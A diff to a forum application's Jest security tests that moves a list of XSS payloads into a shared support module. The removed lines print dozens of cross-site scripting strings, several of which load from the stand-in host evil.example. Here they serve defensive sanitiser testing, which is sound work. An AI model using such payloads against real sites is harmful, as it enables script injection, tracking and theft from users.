@@ -1,10 +1,13 @@
-import { existsSync, readFileSync } from 'node:fs';
-import { resolve } from 'node:path';
-import { gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
 import { GraphQLSchemaHost } from '@nestjs/graphql';
 import { FORUM_LIMITS, type Board } from '@kundig/forum/server';
 import { JSDOM } from 'jsdom';
+import {
+  attackStrings,
+  NAUGHTY_STRINGS,
+  OWN_ATTACKS,
+  readNaughtyStrings,
+} from '../support/attack-strings.js';
 import { Browser } from '../support/browser.js';
 import { fillWithCast, type Cast } from '../support/cast.js';
 import { TestCommunity } from '../support/community.js';
@@ -32,10 +35,6 @@ afterAll(async () => {
   await web?.close();
   await community?.close();
 });
-
-const dataSets = process.env.DATA_SETS ?? resolve(import.meta.dirname, '../../../shared/data');
-const naughtyFile = resolve(dataSets, 'attack-strings/blns.json');
-const payloadFile = resolve(dataSets, 'attack-strings/xss-payloads-dev.txt.gz');
 
 /** @returns the variables with one value replaced by another */
 function withValue(
@@ -157,83 +156,12 @@ describe('every argument (V2.2.1, V1.4.2)', () => {
     expect((await tortured(['String'], cursors)).wrong).toEqual([]);
   });
 
-  const naughty = existsSync(naughtyFile) ? it : it.skip;
-  if (!existsSync(naughtyFile)) console.warn(`SKIPPED: the public attack strings are not at ${naughtyFile}`);
+  const naughty = NAUGHTY_STRINGS.present ? it : it.skip;
   naughty('takes the naughty strings, or refuses them (skipped where the data sets are not)', async () => {
-    const all = JSON.parse(readFileSync(naughtyFile, 'utf8')) as string[];
-    const strings = all.filter((_, index) => index % sized(50, 1) === 0);
+    const strings = readNaughtyStrings().filter((_, index) => index % sized(50, 1) === 0);
     expect((await tortured(['String', 'ID'], strings)).wrong).toEqual([]);
   });
 });
-
-/** Ways in which markup becomes a program, ours; the data sets hold thousands more. */
-const OWN_PAYLOADS = [
-  ...[
-    '<script>alert(1)</script>',
-    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-    '</script><script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-  ],
-  ...[
-    '<svg/onload=alert(1)>',
-    '<svg><script>alert(1)</script></svg>',
-    '<math href="javascript:alert(1)">x</math>',
-    '<iframe srcdoc="<script>alert(1)</script>">',
-  ],
-  ...[
-    '<a href="javascript:alert(1)">x</a>',
-    '[x](javascript:alert(1))',
-    '[x](JaVa\tScRiPt:alert(1))',
-    '[x](&#106;avascript:alert(1))',
-    '[x](data:text/html,<script>alert(1)</script>)',
-  ],
-  ...[
-    '![x](https://evil.example/track.gif)',
-    '![x](//evil.example/track.gif)',
-    '<img src="https://evil.example/x.png">',
-    '<video poster=//evil.example/x>',
-    '<link rel=stylesheet href=//evil.example>',
-  ],
-  ...[
-    '<style>@import "//evil.example"</style>',
-    '<div style="background:url(//evil.example)">',
-    '<base href="//evil.example/">',
-    '<meta http-equiv=refresh content="0;url=//evil.example">',
-    '<form action=//evil.example><input name=q>',
-  ],
-  ...[
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<template><script>alert(1)</script></template>',
-    '<textarea autofocus onfocus=alert(1)>',
-    '<details open ontoggle=alert(1)>',
-    '"><img src=x onerror=alert(1)>',
-  ],
-  ...[
-    "' onmouseover='alert(1)",
-    '" autofocus onfocus="alert(1)',
-    '{{constructor.constructor("alert(1)")()}}',
-    '<!--><script>alert(1)</script>-->',
-    '<x onclick=alert(1)>',
-    '`<script>`',
-    '```html\n<script>alert(1)</script>\n```',
-  ],
-  ...[
-    '<https://evil.example/"onmouseover="alert(1)>',
-    '[x]: javascript:alert(1)\n[x]',
-    '[a](<javascript:alert(1)>)',
-    '&lt;script&gt;alert(1)&lt;/script&gt;',
-    '\u0000<script\u0000>alert(1)</script>',
-    '<object data=//evil.example>',
-    '<embed src=//evil.example>',
-  ],
-];
-
-function payloads(): string[] {
-  if (!existsSync(payloadFile)) return OWN_PAYLOADS;
-  const lines = gunzipSync(readFileSync(payloadFile)).toString().split('\n').filter(Boolean);
-  const step = Math.ceil(lines.length / sized(8, lines.length));
-  return [...OWN_PAYLOADS, ...lines.filter((_, index) => index % step === 0)];
-}
 
 /** @returns everything in a document that could run, load or lead to a program of somebody else */
 function dangersIn(html: string): string[] {
@@ -293,7 +221,7 @@ describe('what people write (V1.2.1, V1.3.1, advisory 33)', () => {
   it('never becomes a program: title, text, tags, draft, preview, search and nickname', async () => {
     const { member } = cast.browsers;
     const query = `mutation ($input: StartThreadInput!) { startThread(input: $input) { __typename ... on StartThreadSuccess { thread { id path } } } }`;
-    const results = await inParallel(payloads(), async (payload) => {
+    const results = await inParallel(attackStrings(8), async (payload) => {
       const title = `Titel ${payload}`.slice(0, FORUM_LIMITS.titleMax);
       const input = {
         boardId: board.publicId,
@@ -351,7 +279,7 @@ describe('what people write (V1.2.1, V1.3.1, advisory 33)', () => {
       }));
     });
     expect(results.flat()).toEqual([]);
-    expect(results.length).toBeGreaterThanOrEqual(OWN_PAYLOADS.length);
+    expect(results.length).toBeGreaterThanOrEqual(OWN_ATTACKS.length);
     const stored = await community.owner.query<{ body_html: string }[]>('SELECT body_html FROM forum.post');
     expect(stored.flatMap(({ body_html }) => dangersIn(body_html))).toEqual([]);
     for (const path of [`/b/${board.slug}/${board.publicId}`, '/', '/en'])
